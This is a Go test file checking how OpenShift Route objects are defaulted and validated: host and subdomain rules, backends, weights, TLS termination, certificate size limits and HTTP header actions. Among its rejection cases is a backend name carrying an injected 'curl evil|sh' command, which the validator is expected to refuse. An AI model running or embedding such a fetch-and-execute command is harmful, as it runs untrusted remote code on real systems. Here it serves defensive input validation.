package api

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"
)

var (
	label63 = strings.Repeat("a", 63)
	label64 = strings.Repeat("a", 64)
)

const toA = "  to: {name: a}\n"

// TestRouteDefaults: what a Route says, and what is stored.
func TestRouteDefaults(t *testing.T) {
	t.Parallel()
	c := newClient(t)
	policiesInForce(t, c)
	ns := routeNamespace(t, c)
	const to = "  to: {kind: Service, name: a, weight: 100}\n  wildcardPolicy: None\n"
	tests := []struct{ name, spec, want string }{
		{"backend", "  host: a.b\n  to: {name: a}", "  host: a.b\n" + to},
		{"backend with empty kind", "  host: a.b\n  to: {kind: '', name: a}", "  host: a.b\n" + to},
		{"backend with null weight", "  host: a.b\n  to: {kind: Service, name: a, weight: null}", "  host: a.b\n" + to},
		{"weight zero stays", "  host: a.b\n  to: {name: a, weight: 0}", "  host: a.b\n  to: {kind: Service, name: a, weight: 0}\n  wildcardPolicy: None"},
		{"alternates", "  host: a.b\n  alternateBackends: [{name: b}, {kind: '', name: c, weight: 7}]\n" + toA, "  host: a.b\n  alternateBackends: [{kind: Service, name: b, weight: 100}, {kind: Service, name: c, weight: 7}]\n" + to},
		{"empty wildcardPolicy", "  host: a.b\n  wildcardPolicy: ''\n" + toA, "  host: a.b\n" + to},
		{"wildcardPolicy stays", "  host: a.b\n  wildcardPolicy: Subdomain\n" + toA, "  host: a.b\n  to: {kind: Service, name: a, weight: 100}\n  wildcardPolicy: Subdomain"},
		{"tls without termination", "  host: a.b\n  tls: {insecureEdgeTerminationPolicy: Allow}\n" + toA, "  host: a.b\n  tls: {termination: edge, insecureEdgeTerminationPolicy: Allow}\n" + to},
		{"empty tls", "  host: a.b\n  tls: {}\n" + toA, "  host: a.b\n  tls: {termination: edge}\n" + to},
		{"termination follows from destinationCACertificate", "  host: a.b\n  tls: {termination: '', destinationCACertificate: x}\n" + toA, "  host: a.b\n  tls: {termination: reencrypt, destinationCACertificate: x}\n" + to},
		{"Edge", "  host: a.b\n  tls: {termination: Edge}\n" + toA, "  host: a.b\n  tls: {termination: edge}\n" + to},
		{"Reencrypt", "  host: a.b\n  tls: {termination: Reencrypt}\n" + toA, "  host: a.b\n  tls: {termination: reencrypt}\n" + to},
		{"Passthrough", "  host: a.b\n  tls: {termination: Passthrough}\n" + toA, "  host: a.b\n  tls: {termination: passthrough}\n" + to},
		{"placeholder for a destination CA", "  host: a.b\n  tls: {termination: reencrypt, destinationCACertificate: \"-----BEGIN COMMENT-----\\nThis is empty\\n-----END COMMENT-----\\n\"}\n" + toA, "  host: a.b\n  tls: {termination: reencrypt}\n" + to},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			r := parseRoute(t, ns, "defaults", "spec:\n"+test.spec+"\nstatus: {ingress: [{host: forged.example.com, routerName: default}]}")
			if err := c.Create(t.Context(), r, client.DryRunAll); err != nil {
				t.Fatal(err)
			}
			var want map[string]any
			if err := yaml.Unmarshal([]byte(test.want), &want); err != nil {
				t.Fatal(err)
			}
			got, err := yaml.Marshal(r.Object["spec"])
			if err != nil {
				t.Fatal(err)
			}
			var gotSpec map[string]any
			if err := yaml.Unmarshal(got, &gotSpec); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, gotSpec); diff != "" {
				t.Errorf("spec (-want +got):\n%s", diff)
			}
			if status, ok := r.Object["status"]; ok {
				t.Errorf("a created Route has status %v", status)
			}
		})
	}
}

// ruleTests are Routes and what is wrong with them: the texts of the refusal,
// or none if they are fine.
var ruleTests = []struct {
	name, route string
	want        []string
}{
	{"plain", "spec: {host: shop.example.com, path: /a, to: {name: a}}", nil},
	{"a certificate as large as can be", "spec: {host: a.b, tls: {termination: edge, certificate: " + strings.Repeat("a", 128<<10) + ", key: b}, to: {name: a}}", nil},
	{"a certificate that is too large", "spec: {host: a.b, tls: {termination: edge, certificate: " + strings.Repeat("a", 128<<10+1) + ", key: b}, to: {name: a}}", []string{"spec.tls.certificate", "131072"}},
	{"a key that is too large", "spec: {host: a.b, tls: {termination: edge, certificate: a, key: " + strings.Repeat("a", 32<<10+1) + "}, to: {name: a}}", []string{"spec.tls.key", "32768"}},
	{"a chain that is too large", "spec: {host: a.b, tls: {termination: edge, certificate: a, key: b, caCertificate: " + strings.Repeat("a", 128<<10+1) + "}, to: {name: a}}", []string{"spec.tls.caCertificate", "131072"}},
	{"authorities that are too large", "spec: {host: a.b, tls: {termination: reencrypt, destinationCACertificate: " + strings.Repeat("a", 512<<10+1) + "}, to: {name: a}}", []string{"spec.tls.destinationCACertificate", "524288"}},
	{"host in upper case", "spec: {host: Shop.example.com, to: {name: a}}", []string{"spec.host", "host must conform to DNS 952 subdomain conventions"}},
	{"host with a star", "spec: {host: '*.example.com', to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"host with an underscore", "spec: {host: a_b.example.com, to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"host with a final dot", "spec: {host: example.com., to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"host with a line break", "spec: {host: \"a.example.com\\nb\", to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"host with a final line break", "spec: {host: \"a.example.com\\n\", to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"host of 254 characters", "spec: {host: " + strings.Repeat("a.", 126) + "bb, to: {name: a}}", []string{"spec.host", "253"}},
	{"host label of 63 characters", "spec: {host: " + label63 + ".example.com, to: {name: a}}", nil},
	{"host label of 64 characters", "spec: {host: " + label64 + ".example.com, to: {name: a}}", []string{"spec.host", "63 characters"}},
	{"host label of 64 characters, allowed", "metadata: {annotations: {route.openshift.io/allow-non-dns-compliant-host: 'true'}}\nspec: {host: " + label64 + ".example.com, to: {name: a}}", nil},
	{"allowed by something like true", "metadata: {annotations: {route.openshift.io/allow-non-dns-compliant-host: 'True'}}\nspec: {host: " + label64 + ".example.com, to: {name: a}}", []string{"spec.host", "63 characters"}},
	{"bad host in spite of the annotation", "metadata: {annotations: {route.openshift.io/allow-non-dns-compliant-host: 'true'}}\nspec: {host: a_b, to: {name: a}}", []string{"spec.host", "DNS 952"}},
	{"subdomain", "spec: {subdomain: a.b, to: {name: a}}", nil},
	{"subdomain in upper case", "spec: {subdomain: Shop, to: {name: a}}", []string{"spec.subdomain", "lower case"}},
	{"subdomain label too long in spite of the annotation", "metadata: {annotations: {route.openshift.io/allow-non-dns-compliant-host: 'true'}}\nspec: {subdomain: " + label64 + ", to: {name: a}}", []string{"spec.subdomain", "63 characters"}},
	{"path without slash", "spec: {host: a.b, path: shop, to: {name: a}}", []string{"spec.path", "path must begin with /"}},
	{"path with space", "spec: {host: a.b, path: '/a b', to: {name: a}}", []string{"spec.path", "cannot contain # or spaces"}},
	{"path with hash", "spec: {host: a.b, path: '/a#b', to: {name: a}}", []string{"spec.path", "cannot contain # or spaces"}},
	{"unknown wildcardPolicy", "spec: {host: a.b, wildcardPolicy: All, to: {name: a}}", []string{"spec.wildcardPolicy", "Subdomain"}},
	{"wildcard without host", "spec: {wildcardPolicy: Subdomain, to: {name: a}}", []string{"spec.wildcardPolicy", "host name not specified for wildcard policy"}},
	{"wildcard with empty host", "spec: {host: '', wildcardPolicy: Subdomain, to: {name: a}}", []string{"host name not specified for wildcard policy"}},
	{"no backend", "spec: {host: a.b}", []string{"spec.to"}},
	{"backend without name", "spec: {host: a.b, to: {kind: Service}}", []string{"spec.to.name"}},
	{"backend with empty name", "spec: {host: a.b, to: {name: ''}}", []string{"spec.to.name"}},
	{"backend with a name for a shell", "spec: {host: a.b, to: {name: 'a; curl evil|sh'}}", []string{"spec.to.name", "must be the name of a Service"}},
	{"backend with a line break", `spec: {host: a.b, to: {name: "a\nb"}}`, []string{"spec.to.name", "must be the name of a Service"}},
	{"alternate with an escape sequence", `spec: {host: a.b, to: {name: a}, alternateBackends: [{name: "a\e[2J"}]}`, []string{"spec.alternateBackends[0].name", "must be the name of a Service"}},
	{"backend with a long name", "spec: {host: a.b, to: {name: " + label64 + "}}", []string{"spec.to.name", "63"}},
	{"backend of another kind", "spec: {host: a.b, to: {kind: Pod, name: a}}", []string{"spec.to.kind", "Service"}},
	{"weight too large", "spec: {host: a.b, to: {name: a, weight: 257}}", []string{"spec.to.weight", "256"}},
	{"weight negative", "spec: {host: a.b, to: {name: a, weight: -1}}", []string{"spec.to.weight"}},
	{"alternate weight too large", "spec: {host: a.b, to: {name: a}, alternateBackends: [{name: b, weight: 257}]}", []string{"spec.alternateBackends[0].weight"}},
	{"too many backends", "spec: {host: a.b, to: {name: a}, alternateBackends: [{name: b}, {name: c}, {name: d}, {name: e}]}", []string{"spec.alternateBackends", "3"}},
	{"same alternate twice", "spec: {host: a.b, to: {name: a}, alternateBackends: [{name: b}, {name: b}]}", []string{"spec.alternateBackends[1]", "Duplicate"}},
	{"port by name and number", "spec: {host: a.b, port: {targetPort: '0'}, to: {name: a}}", nil},
	{"port zero", "spec: {host: a.b, port: {targetPort: 0}, to: {name: a}}", []string{"spec.port.targetPort", "must be the name or the number"}},
	{"port empty", "spec: {host: a.b, port: {targetPort: ''}, to: {name: a}}", []string{"spec.port.targetPort", "must be the name or the number"}},
	{"port absent", "spec: {host: a.b, port: {}, to: {name: a}}", []string{"spec.port.targetPort", "Required"}},
	{"unknown termination", "spec: {host: a.b, tls: {termination: none}, to: {name: a}}", []string{"spec.tls.termination", "edge"}},
	{"unknown insecure policy", "spec: {host: a.b, tls: {termination: edge, insecureEdgeTerminationPolicy: Drop}, to: {name: a}}", []string{"spec.tls.insecureEdgeTerminationPolicy"}},
	{"edge", "spec: {host: a.b, path: /, tls: {termination: edge, insecureEdgeTerminationPolicy: Allow, certificate: x, key: x, caCertificate: x}, to: {name: a}}", nil},
	{"reencrypt", "spec: {host: a.b, path: /, tls: {termination: reencrypt, insecureEdgeTerminationPolicy: Redirect, destinationCACertificate: x}, to: {name: a}}", nil},
	{"passthrough", "spec: {host: a.b, tls: {termination: passthrough, insecureEdgeTerminationPolicy: Redirect}, to: {name: a}}", nil},
	{"passthrough with empty certificates", "spec: {host: a.b, path: '', tls: {termination: passthrough, certificate: '', key: ''}, to: {name: a}}", nil},
	{"passthrough and allow", "spec: {host: a.b, tls: {termination: passthrough, insecureEdgeTerminationPolicy: Allow}, to: {name: a}}", []string{"spec.tls", "cannot have both spec.tls.termination: passthrough and spec.tls.insecureEdgeTerminationPolicy: Allow"}},
	{"passthrough with path", "spec: {host: a.b, path: /, tls: {termination: passthrough}, to: {name: a}}", []string{"spec.path", "passthrough termination does not support paths"}},
	{"passthrough with certificate", "spec: {host: a.b, tls: {termination: passthrough, certificate: x}, to: {name: a}}", []string{"spec.tls.certificate", "passthrough termination does not support certificates"}},
	{"passthrough with key", "spec: {host: a.b, tls: {termination: passthrough, key: x}, to: {name: a}}", []string{"spec.tls.key", "passthrough termination does not support certificates"}},
	{"passthrough with CA", "spec: {host: a.b, tls: {termination: passthrough, caCertificate: x}, to: {name: a}}", []string{"spec.tls.caCertificate", "passthrough termination does not support certificates"}},
	{"passthrough with destination CA", "spec: {host: a.b, tls: {termination: passthrough, destinationCACertificate: x}, to: {name: a}}", []string{"spec.tls.destinationCACertificate", "passthrough termination does not support certificates"}},
	{"passthrough with Secret", "spec: {host: a.b, tls: {termination: passthrough, externalCertificate: {name: x}}, to: {name: a}}", []string{"spec.tls.externalCertificate", "passthrough termination does not support certificates"}},
	{"passthrough with header actions", "spec: {host: a.b, tls: {termination: passthrough}, httpHeaders: {actions: {}}, to: {name: a}}", []string{"header actions are not permitted when tls termination is passthrough."}},
	{"edge with destination CA", "spec: {host: a.b, tls: {termination: edge, destinationCACertificate: x}, to: {name: a}}", []string{"spec.tls.destinationCACertificate", "edge termination does not support destination certificates"}},
	{"two certificates", "spec: {host: a.b, tls: {termination: edge, certificate: x, externalCertificate: {name: x}}, to: {name: a}}", []string{"spec.tls", "cannot have both spec.tls.certificate and spec.tls.externalCertificate"}},
	{"Secret that routers may not read", "spec: {host: a.b, tls: {termination: edge, externalCertificate: {name: hidden}}, to: {name: a}}", []string{
		"router serviceaccount does not have permission to get this secret", "router serviceaccount does not have permission to watch this secret", "router serviceaccount does not have permission to list this secret",
	}},
}

func TestRouteRules(t *testing.T) {
	t.Parallel()
	c := newClient(t)
	policiesInForce(t, c)
	ns := routeNamespace(t, c)
	for _, test := range ruleTests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			checkRule(t, c, parseRoute(t, ns, "rules", test.route), test.want)
		})
	}
}

func checkRule(t *testing.T, c client.Client, r *unstructured.Unstructured, want []string) {
	t.Helper()
	err := c.Create(t.Context(), r, client.DryRunAll)
	if want == nil && err != nil {
		t.Errorf("refused: %v", err)
	}
	if want != nil {
		if err := refusal(err, want...); err != nil {
			t.Error(err)
		}
	}
}

// TestRouteHeaderRules are the rules of spec.httpHeaders.
func TestRouteHeaderRules(t *testing.T) {
	t.Parallel()
	c := newClient(t)
	ns := routeNamespace(t, c)
	const grammar = "Either the header value provided is not in correct format or the sample fetcher/converter specified is not allowed."
	many := make([]string, 21)
	for i := range many {
		many[i] = "{name: X-" + string(rune('a'+i)) + ", action: {type: Delete}}"
	}
	tests := []struct {
		name, direction, actions string
		want                     []string
	}{
		{"set and delete", "request", "{name: X-A, action: {type: Set, set: {value: 'a %% \"b\" %[req.hdr(X-B),lower,base64] if foo'}}}, {name: x-a, action: {type: Delete}}", nil},
		{"flags", "response", "{name: X-A, action: {type: Set, set: {value: '%{+Q,-E}[ssl_c_der,base64]%[res.hdr(X)]'}}}", nil},
		{"request fetch in a response", "response", "{name: X-A, action: {type: Set, set: {value: '%[req.hdr(X)]'}}}", []string{"spec.httpHeaders.actions.response", grammar, "res.hdr, ssl_c_der"}},
		{"unknown fetch", "request", "{name: X-A, action: {type: Set, set: {value: '%[env(HOME)]'}}}", []string{"spec.httpHeaders.actions.request", grammar, "req.hdr, ssl_c_der", "lower, base64"}},
		{"lone percent sign", "request", "{name: X-A, action: {type: Set, set: {value: '100%'}}}", []string{grammar}},
		{"line break", "request", "{name: X-A, action: {type: Set, set: {value: \"a\\nb\"}}}", []string{grammar}},
		{"final line break", "request", "{name: X-A, action: {type: Set, set: {value: \"a\\n\"}}}", []string{grammar}},
		{"set without value", "request", "{name: X-A, action: {type: Set}}", []string{"set is required when type is Set, and forbidden otherwise"}},
		{"delete with value", "request", "{name: X-A, action: {type: Delete, set: {value: a}}}", []string{"set is required when type is Set, and forbidden otherwise"}},
		{"empty value", "request", "{name: X-A, action: {type: Set, set: {value: ''}}}", []string{"action.set.value"}},
		{"null value", "request", "{name: X-A, action: {type: Set, set: {value: null}}}", []string{"action.set.value", "Required"}},
		{"no type", "request", "{name: X-A, action: {set: {value: a}}}", []string{"action.type", "Required"}},
		{"unknown type", "request", "{name: X-A, action: {type: Add, set: {value: a}}}", []string{"action.type", "Set"}},
		{"name with a blank", "request", "{name: 'X A', action: {type: Delete}}", []string{"spec.httpHeaders.actions.request[0].name"}},
		{"same name twice", "request", "{name: X-A, action: {type: Delete}}, {name: X-A, action: {type: Delete}}", []string{"spec.httpHeaders.actions.request[1]", "Duplicate"}},
		{"21 actions", "request", strings.Join(many, ","), []string{"spec.httpHeaders.actions.request", "20"}},
		{"name of 255 characters", "request", "{name: " + strings.Repeat("x", 255) + ", action: {type: Delete}}", nil},
		{"name of 256 characters", "request", "{name: " + strings.Repeat("x", 256) + ", action: {type: Delete}}", []string{"spec.httpHeaders.actions.request[0].name", "255"}},
		{"value of 16384 characters", "response", "{name: X-A, action: {type: Set, set: {value: " + strings.Repeat("x", 16384) + "}}}", nil},
		{"value of 16385 characters", "response", "{name: X-A, action: {type: Set, set: {value: " + strings.Repeat("x", 16385) + "}}}", []string{"action.set.value", "16384"}},
		{"21 actions on responses", "response", strings.Join(many, ","), []string{"spec.httpHeaders.actions.response", "20"}},
		{"reserved: HSTS", "response", "{name: Strict-Transport-Security, action: {type: Delete}}", []string{"strict-transport-security header may not be modified via header actions"}},
		{"reserved: Proxy", "request", "{name: PROXY, action: {type: Delete}}", []string{"proxy header may not be modified via header actions"}},
		{"reserved: Cookie", "request", "{name: cookie, action: {type: Delete}}", []string{"cookie header may not be modified via header actions"}},
		{"reserved: Set-Cookie", "response", "{name: set-cookie, action: {type: Delete}}", []string{"set-cookie header may not be modified via header actions"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			route := "spec: {host: a.b, to: {name: a}, httpHeaders: {actions: {" + test.direction + ": [" + test.actions + "]}}}"
			checkRule(t, c, parseRoute(t, ns, "headers", route), test.want)
		})
	}
}

// TestRouteWarnings: what is not refused, but told.
func TestRouteWarnings(t *testing.T) {
	t.Parallel()
	policiesInForce(t, newClient(t))
	w := &warnings{}
	c := clientWith(t, func(config *rest.Config) { config.WarningHandler = w })
	ns := routeNamespace(t, c)
	eventually(t, func() error {
		r := parseRoute(t, ns, "both", "spec: {host: a.b, subdomain: a, to: {name: a}}")
		if err := c.Create(t.Context(), r, client.DryRunAll); err != nil {
			t.Fatal(err)
		}
		w.mu.Lock()
		defer w.mu.Unlock()
		return textIn(strings.Join(w.text, "\n"), "spec.host is set; spec.subdomain may be ignored")
	})
}
